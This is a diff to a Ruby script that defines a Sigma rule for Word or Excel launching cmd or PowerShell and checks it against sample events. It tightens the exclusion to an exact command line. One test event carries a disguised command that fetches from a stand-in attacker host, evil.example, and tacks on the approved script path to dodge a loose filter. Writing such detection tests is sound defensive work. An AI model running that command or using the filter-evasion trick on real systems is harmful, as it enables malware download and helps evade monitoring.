@@ -1,41 +1,45 @@
 # A detection as a Sigma rule, and the rule applied to events: the selection
-# must match, the filter must not. A rule is tested with both kinds of events.
+# must match, the filter must not. Sigma does not look at upper and lower case.
 
 require "yaml"
 
 RULE = YAML.load(<<~'YAML')
-  title: Office program starts a shell
+  title: Office Program Starts a Shell
+  id: 5b9f1f0e-3c0a-4c56-9d1e-7a2b64c8e3d1
   status: test
   logsource: { category: process_creation, product: windows }
   detection:
     selection:
       ParentImage|endswith: ['\WINWORD.EXE', '\EXCEL.EXE']
       Image|endswith: ['\powershell.exe', '\cmd.exe']
-    filter:
-      CommandLine|contains: ['\Templates\approved.ps1']
-    condition: selection and not filter
+    filter_main_report: # the whole line: a part of it could be added to any other command
+      CommandLine: ['powershell.exe -NoProfile -File C:\Templates\report.ps1']
+    condition: selection and not filter_main_report
   level: high
+  tags: [attack.execution, attack.t1059]
 YAML
 
 TESTS = {
-  "1 macro starts a shell" => [true, 'C:\Office\WINWORD.EXE', 'C:\Windows\cmd.exe', "cmd /c whoami"],
-  "2 approved template" => [false, 'C:\Office\EXCEL.EXE', 'C:\Windows\powershell.exe',
-                            'powershell C:\Templates\approved.ps1'],
-  "3 administrator" => [false, 'C:\Windows\explorer.exe', 'C:\Windows\cmd.exe', "cmd"]
+  "a macro" => [true, 'C:\Office\winword.exe', 'C:\Windows\System32\cmd.exe', "cmd /c whoami"],
+  "the report" => [false, 'C:\Office\EXCEL.EXE', 'C:\Windows\System32\powershell.exe',
+                   'powershell.exe -NoProfile -File C:\Templates\report.ps1'],
+  "in disguise" => [true, 'C:\Office\EXCEL.EXE', 'C:\Windows\System32\powershell.exe',
+                    'powershell.exe -c "iwr evil.example; C:\Templates\report.ps1"'],
+  "somebody" => [false, 'C:\Windows\explorer.exe', 'C:\Windows\System32\cmd.exe', "cmd"]
 }.freeze
 
-OPERATORS = { "endswith" => :end_with?, "contains" => :include? }.freeze
+OPERATORS = { nil => :==, "endswith" => :end_with? }.freeze
 
 def match?(part, event)
   part.all? do |key, values|
     field, operator = key.split("|")
-    values.any? { |value| event[field].public_send(OPERATORS[operator], value) }
+    values.any? { |value| event[field].downcase.public_send(OPERATORS.fetch(operator), value.downcase) }
   end
 end
 
 detection = RULE["detection"]
 TESTS.each do |name, (expected, parent, image, command)|
   event = { "ParentImage" => parent, "Image" => image, "CommandLine" => command }
-  alert = match?(detection["selection"], event) && !match?(detection["filter"], event)
+  alert = match?(detection["selection"], event) && !match?(detection["filter_main_report"], event)
   puts "#{alert == expected ? 'ok  ' : 'FAIL'} #{name}: #{alert ? RULE['level'] : 'no alert'}"
 end
